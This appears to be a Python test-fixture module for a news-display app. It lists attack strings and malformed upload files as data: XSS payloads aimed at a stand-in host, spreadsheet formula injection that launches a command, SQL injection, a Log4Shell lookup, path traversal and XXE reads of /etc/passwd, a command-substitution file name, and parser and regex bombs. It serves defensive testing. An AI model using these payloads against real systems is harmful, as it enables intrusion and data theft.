# ruff: noqa: E501
"""Attack strings and files as data, each under the name of what it tries.

All people in them are invented. An attack that comes to life sets `window.hacked`, opens a dialog, asks the host
`hostile.example`, makes an element of class `hostile`, or shows the word "injected" otherwise than as plain text.
"""

import gzip
import io
import json
import struct

import pyarrow as pa
from pyarrow import parquet

HOST = "hostile.example"
_RUN = "window.hacked=1"
_SCRIPT = f"<script class=hostile>{_RUN}</script>"

HTML = {
    "script": _SCRIPT,
    "script in capitals": f"<ScRiPt CLASS=hostile SRC=//{HOST}/a.js></sCrIpT>",
    "script split": f"<scr<script>ipt class=hostile>{_RUN}</scr</script>ipt>",
    "image handler": f"<img class=hostile src=x onerror={_RUN}>",
    "image without spaces": f"<img/class=hostile/src=x/onerror={_RUN}//",
    "image of a stranger": f"<img class=hostile src=https://{HOST}/spy.png>",
    "svg handler": f'<svg class=hostile onload="{_RUN}">',
    "svg script": f'<svg class=hostile><script href="data:text/javascript,{_RUN}"/></svg>',
    "svg animation": f'<svg class=hostile><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "math link": f'<math class=hostile><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    "frame": f'<iframe class=hostile srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "frame of a stranger": f"<iframe class=hostile src=//{HOST}></iframe>",
    "object": f'<object class=hostile data="javascript:{_RUN}"></object>',
    "embed": f"<embed class=hostile src=//{HOST}/a.swf>",
    "style element": "<style class=hostile>*{display:none!important}</style>",
    "style import": f"<style class=hostile>@import url(//{HOST}/a.css);</style>",
    "style attribute": f"<p class=hostile style='position:fixed;inset:0;background:url(//{HOST}/a.png)'>injected</p>",
    "link element": f"<link class=hostile rel=stylesheet href=//{HOST}/a.css>",
    "base": f"<base class=hostile href=//{HOST}/>",
    "refresh": f'<meta class=hostile http-equiv=refresh content="0;url=//{HOST}">',
    "form": f"<form class=hostile action=//{HOST}><input name=password autofocus onfocus={_RUN}></form>",
    "details": f"<details class=hostile open ontoggle={_RUN}>injected</details>",
    "video": f"<video class=hostile><source onerror={_RUN}></video>",
    "marquee": f"<marquee class=hostile onstart={_RUN}>injected</marquee>",
    "template": f"<template class=hostile><img src=x onerror={_RUN}></template>",
    "custom element": f"<x-hostile class=hostile onclick={_RUN} tabindex=1 autofocus onfocus={_RUN}>injected</x-hostile>",
    "anchor": f'<a class=hostile href="javascript:{_RUN}">injected</a>',
    "anchor of a stranger": f'<a class=hostile href="https://{HOST}/">injected</a>',
    "ping": f'<a class=hostile href=# ping="https://{HOST}/">injected</a>',
    "end of an attribute": f'" class=hostile onmouseover="{_RUN}" x="',
    "end of a single attribute": f"' class=hostile onmouseover='{_RUN}' x='",
    "end of an element": f"</q></h3></article></div></style></title></textarea>{_SCRIPT}",
    "comment": f"<!--><img class=hostile src=x onerror={_RUN}>-->",
    "closing comment": f"--> <img class=hostile src=x onerror={_RUN}>",
    "character data": f"<![CDATA[><img class=hostile src=x onerror={_RUN}>]]>",
    "no script": f'<noscript><p title="</noscript><img class=hostile src=x onerror={_RUN}>">',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img class=hostile title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "clobbering": "<form class=hostile id=parentNode><input name=attributes><img name=body id=body></form>",
    "unfinished tag": "<img class=hostile src=x onerror",
    "zero in a tag": f"<scr\0ipt class=hostile>{_RUN}</scr\0ipt>",
}
ENTITIES = {
    "named": "&lt;b class=hostile&gt;injected&lt;/b&gt;",
    "numbered": "&#60;img class=hostile src=x onerror=window.hacked=1&#62;",
    "numbered without end": "&#60script class=hostile&#62window.hacked=1&#60/script&#62",
    "long number": "&#x000000000000003c;b class=hostile&#x3e;injected",
    "twice": "&amp;lt;b class=hostile&amp;gt;injected",
    "no character": "&#0;&#xD800;&#x110000;&#99999999999999999999;",
    "address": "&#106;avascript&colon;window.hacked=1",
}
MARKDOWN = {
    "bold": "**injected**",
    "emphasis": "_injected_ *injected*",
    "heading": "\n# injected\n",
    "line heading": "\ninjected\n========\n",
    "code": "`injected`",
    "code block": "\n```\ninjected\n```\n",
    "quotation": "\n> injected\n",
    "list": "\n- injected\n1. injected\n",
    "task": "\n- [x] injected\n",
    "table": "\n| injected | b |\n|---|---|\n| injected | d |\n",
    "struck out": "~~injected~~",
    "footnote": "[^1]\n\n[^1]: injected",
    "link": f"[injected](https://{HOST}/)",
    "script link": "[injected](javascript:window.hacked=1)",
    "data link": "[injected](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "reference link": f"[injected][1]\n\n[1]: https://{HOST}/",
    "image": f"![injected](https://{HOST}/spy.png)",
    "image link": f"[![injected](https://{HOST}/spy.png)](javascript:window.hacked=1)",
    "bare link": f"https://{HOST}/injected",
    "bare host": f"www.{HOST}",
    "address of mail": f"injected@{HOST}",
    "angle link": f"<https://{HOST}/injected>",
    "escapes": f"\\[injected\\](https://{HOST}/) \\**injected**",
    "html block": "\n<div class=hostile>\n\n**injected**\n\n</div>\n",
    "rule": "\n---\n***\n",
}
STREAMLIT = {
    "colour": ":red[injected]",
    "background": ":red-background[injected]",
    "badge": ":green-badge[injected]",
    "small": ":small[injected]",
    "icon": ":material/bug_report:",
    "own icon": ":streamlit:",
    "emoji": ":bomb:",
    "nested": ":red[:blue[**injected**]]",
    "formula": "$\\href{javascript:window.hacked=1}{injected}$",
    "formula block": "$$\\text{injected}\\htmlStyle{color:red}{x}$$",
    "formula in brackets": "\\(\\text{injected}\\) \\[\\text{injected}\\]",
    "formula include": "$\\includegraphics{https://hostile.example/a.png}$",
    "name of a file": "pages/panchina.css",
    "format field": "{coach} {0} {coach.__class__.__mro__} %(coach)s %s %n",
}
PLOTLY = {
    "bold": "<b>injected</b>",
    "link": f'<a href="https://{HOST}/" target="_blank">injected</a>',
    "script link": "<a href='javascript:window.hacked=1'>injected</a>",
    "style": '<span style="font-size:200px;fill:red">injected</span>',
    "line": "a<br>b<br/>c",
    "extra": "<extra>injected</extra>",
    "template": "%{x} %{customdata[0]} %{fullData.name} %{y:.99f} %{_constructor}",
    "number": "31337",
    "date": "2024-12-06",
}
FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://hostile.example/"&A1,"injected")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "new line": "\n=1+1",
    "wide": "＝1+1",
    "after a return": "Brenta\r=1+1",
    "after a new line": "Brenta\n=1+1",
    "after a form feed": "Brenta\f=1+1\v=1+1",
    "after a quote": 'Brenta","=1+1',
    "after a semicolon": "Brenta;=1+1",
    "after a line separator": "Brenta\u2028=1+1\x85=1+1",
    "import": '=IMPORTXML(CONCAT("https://hostile.example/",A1),"//a")',
}
CHARACTERS = {
    "zero": "Bren\0ta",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(128, 160))),
    "colour": "\x1b[31minjected\x1b[0m",
    "clear screen": "\x1b[2J\x1b[H",
    "title of the window": "\x1b]0;injected\x07",
    "clipboard": "\x1b]52;c;aW5qZWN0ZWQ=\x07",
    "terminal link": "\x1b]8;;https://hostile.example/\x1b\\injected\x1b]8;;\x1b\\",
    "one byte escape": "\x9b31minjected\x9d0;injected\x9c",
    "backspaces": "good\b\b\b\bevil",
    "line taken back": "good\revil",
    "right to left": "\u202efcp.exe",
    "isolates": "\u2066\u2067injected\u2069\u200f\u061c",
    "all directions": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "no width": "Bre\u200bn\u200ct\u200da\u2060\ufeff",
    "soft hyphens": "B\u00adr\u00ade\u00adn\u00adt\u00ada",
    "tags": "Brenta" + "".join(chr(0xE0000 + ord(letter)) for letter in "injected"),
    "tower": "B" + "\u0301\u0336\u035c\u0489" * 100 + "renta",
    "widest sign": "﷽" * 30 + "𒐫" * 10,
    "half a pair": "Bren\ud800ta \udc00",
    "pair the wrong way round": "\udc00\ud800",
    "no characters": "\ufffe\uffff\U0001ffff\U0010ffff",
    "private": "\ue000\uf8ff\U000f0000",
    "family": "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇮🇹👍🏿",
    "Turkish letters": "İIıi ẞß ŉ ǰ ΐ",
    "look-alikes": "Сarlo Аncelotti of Real Маdrid sаcked",
    "full width": "＜script class=hostile＞window.hacked=1＜/script＞",
    "decomposed": "Pe\u0301rez und Mu\u0308ller",
    "line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "long word": "Brenta" * 4000,
    "many words": "a " * 3000,
    "many stops": ". " * 3000,
    "many brackets": "((((" * 600 + "[[[[" * 600,
    "many quotes": "“" * 800 + '"' * 800,
}
EXPRESSIONS = {
    "letters": "a" * 5000 + "!",
    "nested repeats": "(" * 500 + "a+" + ")+" * 500,
    "spaces": "manager" + " " * 5000 + "x",
    "capitals": "Aa " * 2000,
    "digits": "1" * 5000,
    "dates": "6 December " * 1000,
    "commas": "manager, " * 1500,
    "hyphens": "a-" * 3000,
    "apostrophes": "l'" * 3000,
    "new lines": "\n" * 5000,
    "names": "Mario Brenta del Milan " * 400,
    "cues": "sacked " * 1500,
    "negations": "not never no " * 700,
}
NAMES = {
    "markup": '<img src=x onerror="window.hacked=1"> Brenta',
    "command": "Robert'); DROP TABLE coaches;--",
    "path": "../../../../etc/passwd",
    "separator": "Mario Brenta | Milan | employer",
    "everyone": "*",
    "key": "__proto__",
    "missing": "None",
    "no number": "nan",
    "league": "Paris Saint-Germain\u202e FC",
    "template": "{{constructor.constructor('window.hacked=1')()}}",
    "logger": "${jndi:ldap://hostile.example/a}",
    "header": "Brenta\r\nSet-Cookie: injected=1\r\n\r\n<b class=hostile>injected</b>",
}
URLS = {
    "script": "javascript:window.hacked=1",
    "script in capitals": "JaVaScRiPt:window.hacked=1",
    "script with a tab": "java\tscript:window.hacked=1",
    "script with a new line": "java\nscript:window.hacked=1",
    "script after a control": "\x01javascript:window.hacked=1",
    "script after a host": "javascript://hostile.example/%0awindow.hacked=1",
    "script as entity": "&#106;avascript:window.hacked=1",
    "Visual Basic": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>window.hacked=1</script>",
    "data image": "data:image/svg+xml,<svg onload=window.hacked=1>",
    "blob": "blob:https://hostile.example/1",
    "file": "file:///etc/passwd",
    "view": "view-source:https://hostile.example/",
    "ftp": "ftp://hostile.example/a",
    "no scheme": "//hostile.example/a",
    "path": "../../../etc/passwd",
    "user": "https://www.example.org:secret@hostile.example/a",
    "user with a slash": "https://www.example.org\\@hostile.example/a",
    "end of an attribute": 'https://example.org/" class=hostile onmouseover="window.hacked=1',
    "markup": "https://example.org/<script class=hostile>window.hacked=1</script>",
    "look-alike": "https://gаzzetta.example/a",
    "broken brackets": "https://[::1/a",
    "broken port": "https://example.org:99999999/a",
    "no host": "https:///a",
    "turned": "https://example.org/\u202egpj.exe",
    "very long": "https://example.org/" + "a" * 50_000,
    "formula": "=HYPERLINK(1)",
    "new line": "https://example.org/a\r\nSet-Cookie: injected=1",
}
TEXTS: dict[str, str] = {
    f"{kind}: {name}": attack
    for kind, attacks in {
        "html": HTML, "entities": ENTITIES, "markdown": MARKDOWN, "streamlit": STREAMLIT, "plotly": PLOTLY,
        "formula": FORMULAS, "characters": CHARACTERS, "expressions": EXPRESSIONS, "names": NAMES, "url": URLS,
    }.items()
    for name, attack in attacks.items()
}  # fmt: skip
"""Every attack string; each stands as title, in the text, as source, as address, as coach and as club."""


def _parquet(rows: dict, **options: object) -> bytes:
    target = io.BytesIO()
    parquet.write_table(pa.table(rows), target, **options)
    return target.getvalue()


def _lying_parquet() -> bytes:
    """A Parquet file whose last bytes promise more of a footer than there is."""
    whole = _parquet({"title": ["Brenta"]})
    return whole[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1"


FILES: dict[str, bytes] = {
    "../../escape.txt": b"Mario Brenta",
    "..\\..\\escape.txt": b"Mario Brenta",
    "two\nlines.jsonl": b"{bad",
    "\x1b[31mred.jsonl": b"{bad",
    "\u202elnosj.exe.jsonl": b"{bad",
    "<img src=x onerror=window.hacked=1>.jsonl": b"{bad",
    "**injected**.jsonl": b"{bad",
    ":red[injected].jsonl": b"{bad",
    "=1+1.jsonl": b"{bad",
    "-rf.jsonl": b"{bad",
    "n" * 200 + ".jsonl": b"{bad",
    "$(touch hacked).jsonl": b"{bad",
    "nul.txt": b"",
    "noise.txt": bytes(range(256)) * 40,
    "zeros.txt": b"\0" * 5000,
    "deep.json": b"[" * 200_000,
    "deep objects.json": b'{"a":' * 100_000,
    "deep line.jsonl": b'{"title":"x","a":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
    "long number.jsonl": b'{"title":"x","id":' + b"9" * 100_000 + b"}\n",
    "large exponent.jsonl": b'{"title":"x","date":1e999999,"id":-1e400}\n',
    "no numbers.jsonl": b'{"title":"x","date":NaN,"id":Infinity,"url":-Infinity}\n',
    "same keys.jsonl": b'{"title":"x","title":["y"],"title":{"z":1}}\n',
    "prototype.jsonl": b'{"__proto__":{"title":"x"},"constructor":1,"title":"x"}\n',
    "wrong types.jsonl": b'{"title":true}\n{"title":{"a":1}}\n{"text":[["x"]]}\n{"title":"x","url":{"a":1},"lang":[1]}\n',
    "half pairs.jsonl": b'{"title":"\\ud800","text":"\\udc00 Brenta","id":"\\ud83d"}\n',
    "zero character.jsonl": b'{"title":"a\\u0000b","id":"\\u0000","source":"\\u001b[31m"}\n',
    "bomb of quotes.csv": b'title,text\n' + b'x,"\n' * 50,
    "bomb of columns.csv": b"title" + b"," * 100_000 + b"\n" + b"x" + b"," * 100_000 + b"\n",
    "zero.csv": b"title,text\na\0b,c\n\0,\0\n",
    "returns.csv": b"title,text\ra,b\rc,d\r",
    "same columns.csv": b"title,title,text,text\na,b,c,d\n",
    "no header.csv": b"Mario Brenta,sacked\n",
    "formula.csv": b"title,text,source\n=1+1,@SUM(1),+1\n",
    "marks.csv": "\ufeff\ufefftitle,text\n\ufeffa,b\n".encode(),
    "wide.jsonl": '{"title": "Brenta"}\n'.encode("utf-32"),
    "cut wide.jsonl": '{"title": "Brenta"}\n'.encode("utf-16")[:-1],
    "seven.txt": b"+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "overlong.txt": b"\xc0\xbcscript\xc0\xbe \xe0\x80\xbc \xf8\x88\x80\x80\xaf Mario Brenta",
    "archive.txt": b"PK\x03\x04" + b"\0" * 100,
    "packed.jsonl": gzip.compress(b'{"title":"x"}' * 10_000),
    "entities.html": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><p>&b;&b; Mario Brenta</p>',
    "outside.html": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>&a; Mario Brenta</p>',
    "tags.html": b"<" * 50_000,
    "open tags.html": b"<div>" * 50_000 + b"Mario Brenta",
    "open quotes.html": b'<a title="' * 20_000,
    "open comments.html": b"<!--" * 50_000,
    "open scripts.html": b"<script>" * 20_000,
    "open brackets.html": b"<a <a <a " * 20_000 + b">",
    "many attributes.html": b"<meta " + b"a=b " * 50_000 + b">",
    "facts.html": (
        b'<html lang="&quot;><script>window.hacked=1</script>"><title><b class=hostile>injected</b></title>'
        b'<link rel=canonical href="javascript:window.hacked=1"><meta property="og:site_name" content="<b>injected</b>">'
        b"<p>Mario Brenta rischia &lt;script&gt;window.hacked=1&lt;/script&gt;</p>"
    ),
    "heading.md": b"# <script>window.hacked=1</script> [injected](javascript:window.hacked=1)\n\nMario Brenta",
    "noise.parquet": b"PAR1" + bytes(range(256)) * 8 + b"PAR1",
    "lying.parquet": _lying_parquet(),
    "cut.parquet": _parquet({"title": ["Brenta"] * 100})[:-30],
    "no text.parquet": _parquet({"body": ["x"]}),
    "numbers.parquet": _parquet({"title": [1, 2], "text": [1.5, None]}),
    "nested.parquet": _parquet({"title": [{"a": [{"b": "x"}]}], "text": [["x"]]}),
    "bytes.parquet": _parquet({"title": [b"\xff\xfe", b"Brenta"], "text": [b"", b"\0"]}),
}  # fmt: skip
"""Files under their names, as an upload gives them. No system lets all of these names be written."""


def lines(rows: list[dict]) -> bytes:
    """`rows` as JSON lines, half pairs of surrogates included."""
    return "".join(json.dumps(row) + "\n" for row in rows).encode()
